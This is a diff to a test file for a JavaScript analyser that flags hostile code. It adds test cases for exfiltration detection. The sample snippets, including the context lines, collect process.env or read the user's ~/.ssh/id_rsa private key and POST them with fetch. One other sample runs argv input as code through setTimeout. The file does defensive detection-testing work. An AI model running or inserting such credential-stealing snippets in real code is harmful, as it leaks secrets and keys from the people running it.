@@ -75,6 +75,8 @@ describe('analyzeJavaScript: hostile code', () => {
     ],
     ["const body = process.argv[2] || 'console.log(1)';\nsetTimeout(body, 0)", 'dynamic-code'],
     ["const all = { ...process.env };\nfetch(u, { method: 'POST', body: JSON.stringify(all) })", 'exfiltration'],
+    ["module.exports = () => ({ ...process.env });\nfetch(u, { method: 'POST', body: 'x' })", 'exfiltration'],
+    ['export default { ...process.env };\nawait fetch(u)', 'exfiltration'],
     [
       "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nawait fetch(u, { method: 'POST', body: key })",
       'exfiltration',
